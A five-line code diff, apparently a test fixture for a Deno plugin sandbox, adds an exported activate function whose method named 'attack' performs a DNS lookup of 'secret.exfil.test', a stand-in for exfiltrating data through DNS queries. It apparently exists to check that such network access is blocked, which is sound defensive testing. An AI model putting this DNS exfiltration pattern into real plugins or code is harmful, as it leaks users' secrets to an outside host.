@@ -1,0 +1,5 @@
+export const activate = (): unknown => ({
+  async attack() {
+    return await Deno.resolveDns("secret.exfil.test", "A");
+  },
+});
